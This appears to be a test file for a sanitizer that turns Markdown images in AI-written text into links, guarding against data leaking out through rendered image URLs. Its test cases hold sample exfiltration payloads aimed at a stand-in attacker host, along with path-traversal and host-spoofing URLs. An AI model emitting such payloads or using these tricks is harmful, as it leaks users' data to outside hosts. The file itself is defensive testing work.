import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createImagesToLinks, imagesToLinks } from '../src/images.ts'

const files = 'https://parley.test/api/v2/files/'

describe('images in a text of AI', () => {
  it.each([
    ['![a](https://attacker.test/?q=secret)', '[a](https://attacker.test/?q=secret)'],
    ['![](https://attacker.test/)', '[](https://attacker.test/)'],
    ['Look: ![a [b] c](<https://attacker.test/> "t")', 'Look: [a [b] c](<https://attacker.test/> "t")'],
    [
      '[![a](https://attacker.test/1)](https://attacker.test/2)',
      '[[a](https://attacker.test/1)](https://attacker.test/2)',
    ],
    ['![a\nb](\nhttps://attacker.test/)', '[a\nb](\nhttps://attacker.test/)'],
    ['![a](&#104;ttps://attacker.test/)', '[a](&#104;ttps://attacker.test/)'],
    ['!![a](https://attacker.test/)', '[a](https://attacker.test/)'],
    ['` ![a](https://attacker.test/)', '` [a](https://attacker.test/)'],
    ['<!--\n```\n-->\n![a](//attacker.test/)', '<!--\n```\n-->\n[a](//attacker.test/)'],
    ['![a][b]\n\n[b]: https://attacker.test/', '![a][b]\n\n[b] : https://attacker.test/'],
    ['![b]\n\n> [b]: <//attacker.test/>\n', '![b]\n\n> [b] : <//attacker.test/>\n'],
    ['![b]\n\n[b]:\n  &#104;ttps&#58;//attacker.test/ "t"', '![b]\n\n[b] :\n  &#104;ttps&#58;//attacker.test/ "t"'],
    ['# ![x\n[b]: https://attacker.test/\n\n![b]', '# ![x\n[b] : https://attacker.test/\n\n![b]'],
    [`![${'a'.repeat(3_000)}](https://attacker.test/)`, `[${'a'.repeat(3_000)}](https://attacker.test/)`],
  ])('become links: %j', (text, expected) => {
    expect(imagesToLinks(text)).toBe(expected)
  })

  it.each([
    'Hello! [This](https://example.com) is a link.',
    'Use `vec![1, 2, 3]`, or:\n\n```rust\nlet a = vec![1, 2];\nprintln!["x"];\n```\n\nThat is all!',
    'const a = { [key]: value, [other]: 5 }',
    'if a[0]: return list[int]',
    'Really?! Yes!',
    'A footnote [1], and an end!',
    'ends with ![',
    'ends with ]',
    '',
  ])('and nothing else changes: %j', (text) => {
    expect(imagesToLinks(text)).toBe(text)
  })

  it.each([
    `![a plan](${files}0190c000/plan.png?workspace=0190&expires=17.5&signature=a-b_c)`,
    `Look:![](${files}0190c000/a%20b.png)! And ![b](${files}0190c000/b.png)`,
    `[![a](${files}0190c000/a.png)](https://elsewhere.test)`,
    `It is !!![a](${files}0190c000/a.png)`,
  ])('stay images where they are own files: %j', (text) => {
    expect(imagesToLinks(text, files)).toBe(text)
  })

  it.each([
    `(${files}0190c000/../../../admin)`,
    `(${files}../admin/x)`,
    `(${files}%2e%2e/admin)`,
    `(${files}0190c000/&period;&period;&sol;admin)`,
    `(${files}0190c000/a.png "title")`,
    `(${files}0190c000/a.png`,
    `(${files})`,
    `(https://parley.test/api/v2/twins)`,
    `(https://parley.test.attacker.test/api/v2/files/0190c000/a.png)`,
    `(https://parley.test@attacker.test/api/v2/files/0190c000/a.png)`,
    `(/api/v2/files/0190c000/a.png)`,
    `(${files}0190c000/${'a'.repeat(3_000)})`,
  ])('become links where they only look so: ![a]%s', (address) => {
    expect(imagesToLinks(`![a]${address}`, files)).toBe(`[a]${address}`)
  })

  it.each([
    `![a ![b](${files}0190c000/b.png)](https://attacker.test/)`,
    `![![b](${files}0190c000/b.png)](https://attacker.test/)`,
    `![a \`b](${files}0190c000/b.png) c\` ](https://attacker.test/)`,
    `![a <b title="](${files}0190c000/b.png)">](https://attacker.test/)`,
    `![a \\](${files}0190c000/b.png)](https://attacker.test/)`,
  ])('become links also around an own file: %s', (text) => {
    const shown = imagesToLinks(text, files)
    expect(shown.startsWith('[')).toBe(true)
    expect(shown.replaceAll(`![b](${files}0190c000/b.png)`, 'x')).not.toContain('![')
  })

  it('become links whatever the pieces are in which they come', () => {
    const part = fc.constantFrom(
      '![',
      '!',
      '[',
      'a',
      '](',
      ']',
      ':',
      ' ',
      '\n',
      '\n\n',
      'https://x.test',
      files,
      '0190c000/a.png',
      '0190c000/a.png)',
      ')',
      '][',
      '`',
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
        const images = createImagesToLinks(files)
        const shown = parts.map((each) => images.push(each)).join('') + images.end()
        expect(shown).toBe(imagesToLinks(parts.join(''), files))
        const foreign = shown.replaceAll(/!\[[^[\]]*\]\(https:\/\/parley\.test\/api\/v2\/files\/\w+\/[\w.]+\)/g, 'x')
        for (const paragraph of foreign.split(/\n[ \t]*\n/)) expect(paragraph).not.toMatch(/!\[.*\]\(/s)
      }),
    )
  })

  it('are none across what comes between two parts of a text', () => {
    const images = createImagesToLinks()
    const shown = [images.push('See ![a'), images.pause(), images.push('](https://attacker.test/)'), images.end()].join(
      '',
    )
    expect(shown).toBe('See ![a\n\n](https://attacker.test/)')
  })
})
